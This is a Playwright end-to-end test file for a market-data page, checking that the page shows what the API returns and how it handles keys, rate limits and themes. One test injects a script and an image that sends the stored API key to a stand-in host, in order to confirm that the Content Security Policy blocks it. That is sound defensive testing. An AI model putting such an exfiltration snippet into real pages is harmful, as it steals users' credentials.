"""The page in a real browser, against the real service on a real table: what it shows is what the API says."""

import hashlib
import json
import random
import re
import threading
import time
from contextlib import contextmanager
from datetime import timedelta
from decimal import Decimal
from types import SimpleNamespace
from urllib.parse import urlsplit

import httpx
import pytest
import uvicorn
from k2_testing import browser
from k2_testing.lake import catalog_properties, make_lake
from k2_testing.sinks import Pipeline
from k2_testing.ticks import append_ticks, at
from playwright.sync_api import expect, sync_playwright

from k2.api.app import create_app
from k2.api.routes_page import CHART_LIBRARY, FOLDER
from k2.model.settings import Settings
from k2.model.topics import DataType
from k2.model.workload import QueryConfig

OPEN = at("2014-03-09T23:00:00")
KEY = "secret-key"
OTHER_KEYS = {
    "slow-key": {"limits": {"requests_per_second": 1, "burst": 3, "concurrent": 1}},
    "rio-key": {"rules": {"symbols": ["RIO"]}},
}
AFTER_FRAMES = """async () => {
    for (let frame = 0; frame < 4; frame++) await new Promise(done => requestAnimationFrame(done));
}"""
DESKTOP, PHONE = {"width": 1280, "height": 860}, {"width": 390, "height": 844}

expect.set_options(timeout=60_000)
pytestmark = [
    pytest.mark.real,
    pytest.mark.timeout(600),
    pytest.mark.skipif(
        not (FOLDER / CHART_LIBRARY).exists(),
        reason="the chart library is not here: npm was away when k2 was installed",
    ),
]


@pytest.fixture(scope="module")
def chromium():
    with sync_playwright() as playwright:
        try:
            running = browser.chromium().launch(playwright)
        except browser.UnavailableError as error:
            pytest.skip(str(error))
        yield running
        running.close()


@pytest.fixture(scope="module")
def week(tmp_path_factory):
    """BHP and RIO on Monday and Tuesday; of Tuesday the second half came with a commit of its own. Served on loopback."""
    folder = tmp_path_factory.mktemp("week")
    lake = make_lake(folder, DataType.TRADES, DataType.QUOTES)
    tuesday = OPEN + timedelta(days=1)
    append_ticks(lake, [*market("BHP", OPEN, 360, 35.0, 1), *market("RIO", OPEN, 360, 62.0, 2)])
    append_ticks(lake, market("BHP", tuesday, 180, 35.4, 3))
    append_ticks(lake, market("BHP", tuesday + timedelta(minutes=180), 180, 35.9, 4))
    with serving(folder) as url:
        yield url


@pytest.fixture
def lake(tmp_path):
    return make_lake(tmp_path, DataType.TRADES, DataType.QUOTES)


@pytest.fixture
def own(tmp_path, lake):
    """A service of the test's own, over `lake`."""
    with serving(tmp_path) as url:
        yield url


def entry(key, **more):
    return {"name": key, "sha256": hashlib.sha256(key.encode()).hexdigest()} | more


@pytest.fixture
def pipeline(tmp_path, kafka, registry, free_topic):
    made = Pipeline(tmp_path, kafka, registry, free_topic())
    yield made
    made.close()


@contextmanager
def serving(folder, port=0, **platform):
    keys = folder / "keys.json"
    keys.write_text(json.dumps([entry(KEY), *(entry(key, **more) for key, more in OTHER_KEYS.items())]))
    settings = Settings(catalog_properties=catalog_properties(folder), data_dir=folder, **platform)
    app = create_app(QueryConfig(api_keys_file=keys), settings)
    server = uvicorn.Server(uvicorn.Config(app, host="127.0.0.1", port=port, log_config=None))
    thread = threading.Thread(target=server.run)
    thread.start()
    while not server.started:
        thread.join(0.05)
        assert thread.is_alive()
    try:
        yield f"http://127.0.0.1:{server.servers[0].sockets[0].getsockname()[1]}"
    finally:
        server.should_exit = True
        thread.join()


class Tab:
    """A page, and what went wrong in it."""

    def __init__(self, chromium, url, **options):
        self.context = chromium.new_context(viewport=DESKTOP, locale="en-GB", **options)
        self.page = self.context.new_page()
        self.page.set_default_timeout(60_000)
        self.url = url
        self.complaints = []
        self.requests = []
        self.page.on("console", lambda said: self.complaints.append(said.text) if said.type == "error" else None)
        self.page.on("pageerror", lambda error: self.complaints.append(str(error)))
        self.page.on("request", lambda request: self.requests.append(request.url))

    def open(self, query="", key=KEY):
        self.page.goto(f"{self.url}/{query}")
        self.page.get_by_label("Key that your operator gave you").fill(key)
        self.page.keyboard.press("Enter")
        return self.page

    def rows(self):
        """The bars of the table, each as its texts."""
        return self.page.eval_on_selector_all("#bars tr", "rows => rows.map(r => [...r.cells].map(c => c.textContent))")

    def candles(self):
        """What the chart draws."""
        return self.page.eval_on_selector("#chart", "element => element.chart.candles()")


@pytest.fixture
def tab(chromium):
    opened = []

    def start(url, **options):
        opened.append(Tab(chromium, url, **options))
        return opened[-1]

    yield start
    for each in opened:
        each.context.close()


def ask(url, path, **params):
    """The API itself, past the page."""
    reply = httpx.get(f"{url}/v1/{path}", params=params, headers={"X-API-Key": KEY})
    return reply.raise_for_status().json()


def market(symbol, start, minutes, price, seed):
    """Trades of a random walk, six or so a minute."""
    dice = random.Random(seed)
    ticks = []
    for minute in range(minutes):
        for _ in range(dice.randint(3, 9)):
            price = max(1.0, price * (1 + dice.gauss(0, 0.0006)))
            ticks.append(
                {
                    "symbol": symbol,
                    "timestamp": start + timedelta(minutes=minute, microseconds=dice.randrange(60_000_000)),
                    "price": Decimal(str(round(price, 2))),
                    "quantity": Decimal(dice.choice([50, 100, 200, 500, 1200])),
                }
            )
    return ticks


def shown_as(text, places=0):
    """A decimal string as the page writes it."""
    return f"{Decimal(text).normalize():,f}" if not places else f"{Decimal(text):,.{places}f}"


def same_as_the_api(tab, bars):
    expected = [[shown_as(bar[name], 2) for name in ("open", "high", "low", "close")] for bar in bars]
    assert [row[1:5] for row in tab.rows()] == expected
    assert [row[5] for row in tab.rows()] == [shown_as(bar["volume"]) for bar in bars]
    assert [Decimal(row[6].replace(",", "")) for row in tab.rows()] == [Decimal(bar["vwap"]) for bar in bars]
    assert [row[7] for row in tab.rows()] == [f"{bar['trade_count']:,}" for bar in bars]
    drawn = [[candle[name] for name in ("open", "high", "low", "close")] for candle in tab.candles()]
    assert drawn == [[float(bar[name]) for name in ("open", "high", "low", "close")] for bar in bars]


def test_the_page_asks_for_a_key_and_then_shows_the_newest_day_without_a_complaint(week, tab):
    mine = tab(week)
    page = mine.open()
    expect(page.get_by_role("heading", level=1)).to_have_text("BHP · ASX")
    expect(page.locator("#subtitle")).to_contain_text("Tuesday, 11 March 2014")
    expect(page.locator("#badge")).to_contain_text("Live")
    expect(page.locator("#badge")).to_contain_text("complete until 2014-03-11 15:59:")
    same_as_the_api(mine, ask(week, "bars/BHP", interval="5m", date="2014-03-11")["data"])
    assert mine.rows()[0][0] == "10:00", "the exchange's own clock"
    assert mine.complaints == []
    assert {urlsplit(each)[:2] for each in mine.requests} == {urlsplit(week)[:2]}
    assert mine.page.evaluate("Object.values(sessionStorage)") == [KEY]
    assert mine.page.evaluate("Object.keys(localStorage)") == []
    assert KEY not in page.url
    assert not [each for each in mine.requests if KEY in each]


@pytest.mark.parametrize(("bucket", "first"), [("1m", "2014-03-11"), ("15m", "2014-03-11"), ("1h", "2014-03-05")])
def test_every_bucket_shows_what_the_api_answers(week, tab, bucket, first):
    mine = tab(week)
    page = mine.open()
    page.get_by_label(bucket, exact=True).check(force=True)
    expect(page.locator("#subtitle")).to_contain_text(f"bars of {bucket}")
    same_as_the_api(mine, ask(week, "bars/BHP", interval=bucket, date=first, last_date="2014-03-11")["data"])


def test_daily_bars_and_the_days_before_and_after(week, tab):
    mine = tab(week)
    page = mine.open("?symbol=BHP&bucket=1d")
    expect(page.locator("#subtitle")).to_contain_text("bars of 1d")
    same_as_the_api(mine, ask(week, "bars/BHP", interval="1d")["data"])
    assert [row[0] for row in mine.rows()] == ["2014-03-10", "2014-03-11"]
    page.get_by_role("button", name="Day before").click()
    expect(page.locator("#subtitle")).to_contain_text("10 March 2014 · bars of 1d")
    page.get_by_role("button", name="Day before").click()
    expect(page.locator("#subtitle")).to_contain_text("9 March 2014 · bars of 1d")
    expect(page.locator("#empty")).to_contain_text("No trades")
    page.get_by_role("button", name="Day after").click()
    expect(page.locator("#subtitle")).to_contain_text("10 March 2014 · bars of 1d")


def test_the_regular_session_alone(own, lake, tab):
    early = market("BHP", OPEN - timedelta(hours=2), 30, 34.0, 5)
    append_ticks(lake, [*early, *market("BHP", OPEN, 60, 35.0, 1)])
    mine = tab(own)
    page = mine.open()
    expect(page.locator("#bars tr")).to_have_count(18)
    page.get_by_label("Regular session only").check()
    expect(page.locator("#bars tr")).to_have_count(12)
    expect(page.locator("#subtitle")).to_contain_text("regular session")
    same_as_the_api(mine, ask(own, "bars/BHP", interval="5m", date="2014-03-10", session="regular")["data"])
    page.reload()
    expect(page.locator("#bars tr")).to_have_count(12)


def test_a_symbol_is_found_and_chosen_by_keyboard_alone(week, tab):
    mine = tab(week)
    page = mine.open()
    expect(page.get_by_role("heading", level=1)).to_have_text("BHP · ASX")
    page.keyboard.press("/")
    expect(page.get_by_role("combobox", name="Symbol")).to_be_focused()
    expect(page.get_by_role("option")).to_have_count(2)
    page.keyboard.type("io")
    expect(page.get_by_role("option")).to_have_count(1)
    expect(page.get_by_role("option", selected=True)).to_contain_text("RIO")
    page.keyboard.press("Enter")
    expect(page.get_by_role("heading", level=1)).to_have_text("RIO · ASX")
    expect(page.locator("#subtitle")).to_contain_text("Monday, 10 March 2014")
    same_as_the_api(mine, ask(week, "bars/RIO", interval="5m", date="2014-03-10")["data"])
    page.keyboard.press("ArrowDown")
    page.keyboard.press("ArrowDown")
    page.keyboard.press("ArrowUp")
    expect(page.get_by_role("option", selected=True)).to_contain_text("BHP")
    page.keyboard.press("Escape")
    expect(page.get_by_role("listbox")).to_be_hidden()
    expect(page.get_by_role("combobox", name="Symbol")).to_have_value("RIO")


def test_bars_are_read_from_the_chart_by_keyboard(week, tab):
    mine = tab(week)
    page = mine.open()
    expect(page.locator("#bars tr")).to_have_count(72)
    rows = mine.rows()
    page.locator("#chart").focus()
    page.keyboard.press("Home")
    expect(page.locator("#status")).to_contain_text(f"{rows[0][0]}: open {rows[0][1]}")
    page.keyboard.press("ArrowRight")
    expect(page.locator("#legend [data-of=close]")).to_have_text(rows[1][4])
    for pressed in ("+", "+", "-", "0", "End"):
        page.keyboard.press(pressed)
    expect(page.locator("#legend [data-of=time]")).to_have_text(rows[-1][0])
    for keys, chosen in ((["+", "+", "0"], rows[-1]), (["+", "+", "Home"], rows[0]), (["0", "End"], rows[-1])):
        # Faster than frames are drawn: the scale moves under the cross, the bar stays chosen.
        page.locator("#chart").evaluate(
            "(chart, keys) => { for (const key of keys) chart.dispatchEvent(new KeyboardEvent('keydown', { key })); }",
            keys,
        )
        page.evaluate(AFTER_FRAMES)
        assert page.locator("#legend [data-of=time]").text_content() == chosen[0], keys
    page.keyboard.press("Escape")
    assert mine.complaints == []


def test_the_slider_answers_from_a_snapshot_of_the_past(week, tab):
    mine = tab(week)
    page = mine.open()
    expect(page.locator("#bars tr")).to_have_count(72)
    snapshots = [each["snapshot_id"] for each in reversed(ask(week, "snapshots")["data"])]
    slider = page.get_by_role("slider", name="Time travel")
    slider.focus()
    page.keyboard.press("ArrowLeft")
    page.keyboard.press("ArrowLeft")
    expect(page.locator("#bars tr")).to_have_count(36)
    expect(slider).to_have_attribute("aria-valuetext", re.compile("^2 of 3: as of "))
    expect(page.locator("#badge")).to_contain_text("Past")
    assert f"snapshot={snapshots[1]}" in page.url
    same_as_the_api(mine, ask(week, "bars/BHP", interval="5m", date="2014-03-11", snapshot=snapshots[1])["data"])
    page.keyboard.press("Home")
    expect(page.locator("#empty")).to_contain_text("No trades")
    page.get_by_role("button", name="Live", exact=True).click()
    expect(page.locator("#bars tr")).to_have_count(72)
    expect(page.locator("#badge")).to_contain_text("Live")


def test_a_commit_is_shown_by_itself_and_a_new_day_is_followed(own, lake, tab):
    append_ticks(lake, market("BHP", OPEN, 30, 35.0, 1))
    mine = tab(own)
    page = mine.open("?bucket=1m")
    expect(page.locator("#bars tr")).to_have_count(30)
    append_ticks(lake, market("BHP", OPEN + timedelta(minutes=30), 12, 35.2, 2))
    expect(page.locator("#bars tr")).to_have_count(42)
    same_as_the_api(mine, ask(own, "bars/BHP", interval="1m", date="2014-03-10")["data"])
    expect(page.locator("#snapshot")).to_contain_text("newest of 2")
    append_ticks(lake, market("BHP", OPEN + timedelta(days=1), 5, 36.0, 3))
    expect(page.locator("#subtitle")).to_contain_text("Tuesday, 11 March 2014")
    expect(page.locator("#bars tr")).to_have_count(5)
    assert mine.complaints == []


def test_what_kafka_holds_is_shown_before_it_is_committed_and_counted_once(pipeline, tab):
    pipeline.produce(0, 1_000)
    pipeline.finish()
    platform = {
        "kafka_bootstrap_servers": pipeline.kafka["bootstrap.servers"],
        "registry_url": pipeline.registry["url"],
    }
    with serving(pipeline.folder, **platform) as url:
        page = tab(url).open("?symbol=BHP&bucket=1d")
        trades = page.locator("#bars td:last-child")
        expect(trades).to_have_text("125")
        pipeline.produce(1_000, 1_800)
        expect(trades).to_have_text("225")
        expect(page.locator("#badge")).to_have_text(re.compile(r"Live\s+· complete until .*, \d+ s behind"))
        commits = page.get_by_role("slider").get_attribute("max")
        pipeline.finish()
        expect(page.get_by_role("slider")).not_to_have_attribute("max", commits)
        page.get_by_role("button", name="Audit").click()
        expect(page.locator("#audited")).to_have_text("Every offset once: 1,800 rows")
        expect(trades).to_have_text("225")


def test_a_table_without_data_says_so_and_begins_by_itself(own, lake, tab):
    mine = tab(own)
    page = mine.open()
    expect(page.locator("#empty")).to_contain_text("No trades are stored yet")
    append_ticks(lake, market("BHP", OPEN, 5, 35.0, 1))
    expect(page.get_by_role("heading", level=1)).to_have_text("BHP · ASX")
    expect(page.locator("#bars tr")).to_have_count(1)


def test_a_wrong_key_is_refused_in_words_and_the_right_one_helps(week, tab):
    mine = tab(week)
    page = mine.open(key="wrong")
    expect(page.get_by_role("dialog")).to_be_visible()
    expect(page.locator("#key-problem")).to_contain_text("not known")
    expect(page.locator("#badge")).to_contain_text("Key refused")
    page.get_by_label("Key that your operator gave you").fill(KEY)
    page.get_by_role("button", name="Use key").click()
    expect(page.get_by_role("heading", level=1)).to_have_text("BHP · ASX")
    expect(page.locator("#problem")).to_be_hidden()
    page.get_by_role("button", name="API key").click()
    page.get_by_role("button", name="Forget").click()
    expect(page.locator("#badge")).to_contain_text("No key")
    expect(page.locator("#bars tr")).to_have_count(0)
    assert page.evaluate("Object.values(sessionStorage)") == []


def test_a_key_that_asks_too_often_waits_as_it_is_told(lake, tmp_path, tab, monkeypatch):
    append_ticks(lake, market("BHP", OPEN, 5, 35.0, 1))
    goes = threading.Event()  # the service's clock: until both were seen, no request is given back
    clock = SimpleNamespace(time=time.time, monotonic=lambda: time.monotonic() if goes.is_set() else 0.0)
    monkeypatch.setattr("k2.api.app.time", clock)
    with serving(tmp_path) as url:
        page = tab(url).open(key="slow-key")
        expect(page.get_by_role("alert").filter(has_text="Too many requests")).to_be_visible()
        expect(page.get_by_role("button", name=re.compile(r"Try again \(\d s\)"))).to_be_visible()
        goes.set()
        expect(page.get_by_role("heading", level=1)).to_have_text("BHP · ASX")
        expect(page.locator("#problem")).to_be_hidden()


def test_a_key_sees_on_the_page_what_its_rules_let_it_see(week, tab):
    page = tab(week).open(key="rio-key")
    expect(page.get_by_role("heading", level=1)).to_have_text("RIO · ASX")
    expect(page.locator("#badge")).to_contain_text("complete until 2014-03-10 15:59:")
    page.keyboard.press("/")
    expect(page.get_by_role("option")).to_have_text([re.compile("^RIO")])
    page.keyboard.press("Escape")
    page.get_by_role("button", name="Audit").click()
    expect(page.locator("#audited")).to_contain_text("this key sees a part of them")
    page.get_by_role("slider").press("ArrowLeft")
    expect(page.locator("#snapshot")).to_have_text(re.compile(r"^3 of 3: as of [-\d]+ [:\d]+$"))


def test_a_service_that_is_not_ready_is_waited_for(tmp_path, tab):
    with serving(tmp_path) as url:
        page = tab(url).open()
        expect(page.get_by_role("alert").filter(has_text="The service is not ready")).to_be_visible()
        expect(page.locator("#badge")).to_contain_text("Away")
        lake = make_lake(tmp_path, DataType.TRADES, DataType.QUOTES)
        append_ticks(lake, market("BHP", OPEN, 5, 35.0, 1))
        expect(page.get_by_role("heading", level=1)).to_have_text("BHP · ASX")
        expect(page.locator("#problem")).to_be_hidden()


def test_a_service_that_went_away_is_said_and_found_again(lake, tmp_path, tab):
    append_ticks(lake, market("BHP", OPEN, 5, 35.0, 1))
    with serving(tmp_path) as url:
        page = tab(url).open()
        expect(page.locator("#badge")).to_contain_text("Live")
    expect(page.get_by_role("alert").filter(has_text="No answer")).to_be_visible()
    assert page.locator("#bars tr").count() == 1, "what was seen stays"
    with serving(tmp_path, port=urlsplit(url).port):
        expect(page.locator("#badge")).to_contain_text("Live")
        expect(page.locator("#problem")).to_be_hidden()


def test_a_snapshot_that_is_gone_gives_way_to_live_data(week, tab):
    page = tab(week).open("?symbol=BHP&snapshot=1234567890")
    expect(page.locator("#badge")).to_contain_text("Live")
    expect(page.locator("#bars tr")).to_have_count(72)


def test_the_page_works_without_the_chart_library(week, tab):
    mine = tab(week)
    mine.page.route("**/lightweight-charts.js", lambda route: route.abort())
    page = mine.open()
    expect(page.locator("#no-chart")).to_contain_text("The table below shows the bars")
    expect(page.get_by_role("table")).to_be_visible()
    expect(page.locator("#bars tr")).to_have_count(72)


def test_text_and_marks_can_be_told_from_their_ground_in_both_themes(week, tab):
    for scheme in ("light", "dark"):
        page = tab(week, color_scheme=scheme).open()
        expect(page.locator("#badge")).to_contain_text("Live")
        for name, least in {"--text": 7, "--quiet": 4.5, "--accent": 4.5, "--bad": 4.5, "--up": 3, "--down": 3}.items():
            assert contrast(colour(page, name), colour(page, "--panel")) >= least, (scheme, name)


def test_the_theme_follows_the_system_until_it_is_chosen(week, tab, tmp_path):
    pictures = tmp_path / "screenshots"
    grounds = {}
    for scheme in ("light", "dark"):
        page = tab(week, color_scheme=scheme).open()
        expect(page.locator("#bars tr")).to_have_count(72)
        page.screenshot(path=pictures / f"{scheme}.png")
        page.set_viewport_size(PHONE)
        page.wait_for_function(f"innerWidth === {PHONE['width']}")
        page.evaluate(AFTER_FRAMES)  # the chart has followed
        assert page.evaluate("document.documentElement.scrollWidth <= innerWidth"), "nothing stands out at the side"
        page.screenshot(path=pictures / f"{scheme}-phone.png", full_page=True)
        page.set_viewport_size(DESKTOP)
        grounds[scheme] = colour(page, "--ground")
        page.get_by_role("button", name="Dark" if scheme == "light" else "Light").click()
        page.reload()
        expect(page.locator("#bars tr")).to_have_count(72)
        grounds[f"{scheme}, switched"] = colour(page, "--ground")
    assert grounds["light"] == grounds["dark, switched"] != grounds["dark"] == grounds["light, switched"]
    assert sum(grounds["light"]) > 600
    assert sum(grounds["dark"]) < 150


def test_nothing_runs_or_is_loaded_from_elsewhere_even_if_it_is_smuggled_in(week, tab):
    mine = tab(week)
    page = mine.open()
    expect(page.locator("#bars tr")).to_have_count(72)
    with page.expect_console_message(lambda said: "Content Security Policy" in said.text):
        page.evaluate("""() => {
            const script = document.createElement("script");
            script.textContent = "window.smuggled = true";
            document.body.append(script);
            const picture = new Image();
            picture.src = "http://192.0.2.1/steal?" + sessionStorage.getItem("k2-api-key");
            document.body.append(picture);
        }""")
    assert page.evaluate("window.smuggled") is None
    assert [said for said in mine.complaints if "Content Security Policy" in said]


def colour(page, name):
    """Red, green and blue of a custom property, 0 to 255."""
    text = page.evaluate(
        """name => {
            const probe = document.body.appendChild(document.createElement("i"));
            probe.style.color = `var(${name})`;
            const colour = getComputedStyle(probe).color;
            probe.remove();
            return colour;
        }""",
        name,
    )
    return tuple(int(part) for part in re.findall(r"\d+", text)[:3])


def contrast(one, other):
    """WCAG's contrast ratio of two colours."""

    def luminance(colour):
        parts = [part / 255 for part in colour]
        linear = [part / 12.92 if part <= 0.04045 else ((part + 0.055) / 1.055) ** 2.4 for part in parts]
        return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]

    high, low = sorted((luminance(one), luminance(other)), reverse=True)
    return (high + 0.05) / (low + 0.05)
